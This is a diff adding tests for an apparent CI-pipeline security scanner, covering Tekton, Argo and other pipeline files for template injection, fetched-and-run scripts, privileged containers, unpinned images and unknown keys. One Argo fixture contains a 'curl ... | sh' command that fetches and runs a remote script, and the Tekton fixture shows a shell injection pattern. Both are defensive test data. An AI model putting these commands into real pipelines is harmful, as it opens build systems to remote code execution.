@@ -274,3 +274,81 @@ test("no reader throws, whatever shape a file has", () => {
     { numRuns: 200 },
   );
 });
+
+test("Tekton and Argo: scripts that are handed to a shell, and containers beside the main one", () => {
+  const tekton = `apiVersion: tekton.dev/v1
+kind: Task
+spec:
+  steps:
+    - image: node@sha256:${"a".repeat(64)}
+      command: [sh, -c]
+      args: ["echo $(params.title)"]
+`;
+  expect(fired(".tekton/task.yaml", tekton)).toEqual(["template-injection low :7"]);
+  const argo = `apiVersion: argoproj.io/v1alpha1
+kind: Workflow
+spec:
+  templates:
+    - name: a
+      initContainers: [{ name: i, image: "busybox:1" }]
+      sidecars: [{ name: s, image: "docker:27-dind" }]
+      containerSet:
+        containers:
+          - { name: c, image: "alpine:3", command: [bash, -ec], args: ["curl -s https://x.example/i.sh | sh"] }
+`;
+  expect(fired("argo/build.yaml", argo)).toEqual([
+    "fetched-and-run medium :10",
+    "privileged-container medium :7",
+    "unpinned-image medium :10",
+    "unpinned-image medium :6",
+    "unpinned-image medium :7",
+  ]);
+});
+
+const ARGO_HEAD = "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\n";
+const TEKTON_HEAD = "apiVersion: tekton.dev/v1\nkind: Task\n";
+
+test.each([
+  [".gitlab-ci.yml", "build: { script: x, run: [{ name: a, script: y }] }\n", ["run"]],
+  [
+    ".gitlab-ci.yml",
+    "include: { local: a.yml, from: b }\nx: { trigger: { include: [{ locale: c }] } }\n",
+    ["from", "locale"],
+  ],
+  ["azure-pipelines.yml", "stages: [{ stage: a, jobs: [{ job: b, steps: [{ scirpt: x }] }] }]\n", ["scirpt"]],
+  ["azure-pipelines.yml", 'steps: [{ "${{ if eq(1, 1) }}": [{ bahs: x }] }]\n', ["bahs"]],
+  [
+    ".circleci/config.yml",
+    "jobs: { a: { steps: [{ run: { command: x, comand: y } }], stpes: [] } }\n",
+    ["comand", "stpes"],
+  ],
+  ["bitbucket-pipelines.yml", "pipelines: { default: [{ step: { scripts: [x] } }], pull: [] }\n", ["pull", "scripts"]],
+  [".drone.yml", "kind: pipeline\nsteps: [{ name: a, comands: [x] }]\n", ["comands"]],
+  [".buildkite/pipeline.yml", "steps: [{ group: a, steps: [{ comand: x }] }]\n", ["comand"]],
+  [".tekton/t.yaml", `${TEKTON_HEAD}spec: { steps: [{ scripts: x }] }\n`, ["scripts"]],
+  ["argo/w.yaml", `${ARGO_HEAD}spec: { templates: [{ name: a, plugin: { x: {} } }] }\n`, ["plugin"]],
+])("%s: a key that is not known is a gap: %s", (path, text, keys) => {
+  expect(gapsIn(path, text).sort()).toEqual(
+    keys.map((key) => `the key \`${key}\` is not known here: what it does was not judged`).sort(),
+  );
+});
+
+test.each([
+  [".gitlab-ci.yml", ".x: &x { tags: [a] }\nb: { <<: *x, script: y, services: [{ name: z, alias: q }] }\n"],
+  ["azure-pipelines.yml", "jobs: [{ deployment: a, strategy: { runOnce: { deploy: { steps: [{ script: x }] } } } }]\n"],
+  [".circleci/config.yml", "refs: { a: 1 }\njobs: { a: { steps: [checkout, { my/orb: { any: thing } }] } }\n"],
+  [
+    "bitbucket-pipelines.yml",
+    "definitions: { steps: [{ step: { script: [x] } }] }\npipelines: { custom: { a: [{ variables: [] }] } }\n",
+  ],
+  [".woodpecker.yml", "steps: { build: { image: 'x@sha256:1', commands: [y], when: { any: 1 } } }\n"],
+  [".buildkite/pipeline.yml", "common: { a: 1 }\nsteps: [wait, { block: x, fields: [{ any: 1 }] }]\n"],
+])("%s: what is known, and data, are no gaps: %s", (path, text) => {
+  expect(gapsIn(path, text)).toEqual([]);
+});
+
+test("a file full of other keys is told once, and not a thousand times", () => {
+  const keys = Array.from({ length: 1000 }, (_, n) => `k${n}: 1`).join(", ");
+  const gaps = gapsIn(".gitlab-ci.yml", `a: { script: x, ${keys} }\n`);
+  expect([gaps.length, gaps.at(-1)]).toEqual([21, "more than 20 keys are not known here"]);
+});
